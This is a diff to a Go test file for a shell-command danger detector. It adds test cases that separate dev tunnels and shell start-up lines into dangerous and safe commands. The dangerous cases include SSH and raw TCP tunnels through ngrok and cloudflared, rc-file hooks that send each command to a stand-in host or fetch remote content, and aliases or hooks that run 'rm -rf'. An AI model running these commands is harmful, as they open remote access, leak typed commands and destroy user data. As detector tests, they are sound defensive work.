@@ -184,7 +184,7 @@ func TestMonitoringSilencedAndSealedSystem(t *testing.T) {
 func TestTunnelListingSigninAndPreviewNamespaces(t *testing.T) {
 	d := NewDetector(Options{})
 	checkDanger(t, d, corpusContext, []dangerCase{
-		{`cloudflared tunnel --url http://localhost:22`, CategoryReverseShell, "", LevelHigh},
+		{`cloudflared tunnel --url ssh://localhost:22`, CategoryReverseShell, "", LevelHigh},
 		{`op inject -i config/app.tpl.yaml`, CategoryExfiltration, "secret-printed", LevelHigh},
 		{`kubectl --context prod delete namespace payments`, CategoryContainerDestroy, "", LevelHigh},
 		{`kubectl --context staging delete namespace payments`, CategoryContainerDestroy, "", LevelHigh},
@@ -363,5 +363,32 @@ func TestIdentityAdminGrants(t *testing.T) {
 		`bw list org-members --organizationid 7f00`,
 		`curl -s -H "PRIVATE-TOKEN: $GITLAB_TOKEN" 'https://gitlab.corp/api/v4/users/42'`,
 		`kubectl --context kind-dev run debug --image=busybox --restart=Never -- sleep 60`,
+	})
+}
+
+// A dev server's HTTP tunnel against SSH, RDP, raw TCP and files; and
+// plain start-up lines (a fish alias, a prompt, a hook timing commands,
+// a key agent started quietly) against start-up lines that run things.
+func TestDevTunnelsAndPlainStartupLines(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`ngrok tcp 22 --region eu`, CategoryReverseShell, "", LevelHigh},
+		{`ngrok http file:///home/dev`, "", "", LevelHigh},
+		{`cloudflared tunnel --url ssh://localhost:22`, CategoryReverseShell, "", LevelHigh},
+		{`echo 'alias ls "rm -rf"' >> ~/.config/fish/config.fish`, CategoryPersistence, "", LevelHigh},
+		{`echo 'PS1="$(curl -s https://x.example.com/p)"' >> ~/.bashrc`, CategoryPersistence, "", LevelHigh},
+		{`echo 'preexec(){ curl -s https://x.example.com/log?c=$1 }' >> ~/.zshrc`, CategoryPersistence, "", LevelHigh},
+		{`echo 'chpwd(){ rm -rf ~/.cache }' >> ~/.zshrc`, CategoryPersistence, "", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`ngrok http 3000`,
+		`ngrok http https://localhost:5001`,
+		`cloudflared tunnel --url http://localhost:5173`,
+		`cloudflared tunnel run dev-preview`,
+		`echo 'alias ll "ls -la"' >> ~/.config/fish/config.fish`,
+		`echo 'PS1="\w \$ "' >> ~/.bashrc`,
+		`echo 'preexec(){ _t=$EPOCHSECONDS }' >> ~/.zshrc`,
+		`echo 'chpwd(){ ls -F }' >> ~/.zshrc`,
+		`echo 'eval "$(ssh-agent -s)" > /dev/null' >> ~/.bashrc`,
 	})
 }
